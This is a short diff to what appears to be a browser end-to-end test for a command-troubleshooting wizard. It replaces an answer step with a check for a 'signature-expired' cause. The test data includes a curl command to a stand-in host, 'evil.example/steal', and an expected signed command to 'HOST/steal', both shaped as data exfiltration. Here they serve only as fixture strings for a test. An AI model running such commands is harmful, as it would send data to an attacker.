@@ -140,8 +140,7 @@ test("the command of a question waits too, and what it printed makes the host no
   await page.getByRole("button", { name: "Read the output" }).click();
   await expect(wizard.paste).toHaveValue(/^\$ curl .*'https:\/\/evil\.example\/steal'\n/);
   await expect(wizard.row("Error message")).toHaveValue("signature-expired");
-  await wizard.facetButton("Answer", "answered-by").click();
-  await wizard.answer("answered-by", "api-gateway");
+  await expect(wizard.cause("signature-expired")).toBeVisible();
 
   const signed = commandsIn(wizard.diagnosis).filter({ hasText: "--aws-sigv4" });
   await expect(signed).toContainText("'https://HOST/steal'");
